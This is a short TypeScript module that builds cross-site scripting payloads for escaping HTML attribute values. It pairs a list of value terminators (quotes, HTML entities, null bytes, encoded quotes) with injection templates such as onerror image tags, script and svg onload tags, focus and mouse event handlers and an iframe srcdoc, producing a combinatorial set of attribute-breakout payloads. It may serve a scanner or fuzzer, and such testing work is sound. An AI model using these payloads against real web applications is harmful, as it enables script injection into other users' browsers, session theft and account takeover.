import { type Make, pairs } from './kit.ts';

/** What may end the value that a payload stands in, or seem to. */
const EXITS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '`>',
  ' ',
  '\t',
  '\n',
  '\f',
  '/',
  '>',
  '\\"',
  "\\'",
  '&quot;',
  '&#34;',
  '&#x22;',
  '&apos;',
  '&#39',
  '" ',
  "' ",
  '"\n',
  "'\t",
  '"/',
  "'/",
  '\u0000"',
  '"\u0000',
  'x" ',
  "x' ",
  '"\'`',
  '\u201c"',
  '%22',
  '\\u0022',
  '\u0001" ',
];

/** What stands behind it. */
const ENTRIES: readonly Make[] = [
  (run) => `onmouseover=${run} x="`,
  (run) => `onclick='${run}' x='`,
  (run) => `onfocus=${run} autofocus tabindex=1 x=`,
  (run) => `autofocus/onfocus=${run}//`,
  (run) => `style=display:block onpointerenter=${run} `,
  (run) => `onerror=${run} src=x `,
  (run) => `><img src=x onerror=${run}>`,
  (run) => `><script>${run}</script>`,
  (run) => `><svg/onload=${run}>`,
  (run) => `></textarea></title><img src=x onerror=${run}>`,
  (run) => `accesskey=x onclick=${run}`,
  (run) => `><iframe srcdoc='<script>parent.${run}</script>'>`,
];

/** Ways out of an attribute's value. */
export function attributes(): Make[] {
  return pairs(EXITS, ENTRIES).map(
    ([exit, entry]) =>
      (run) =>
        exit + entry(run),
  );
}
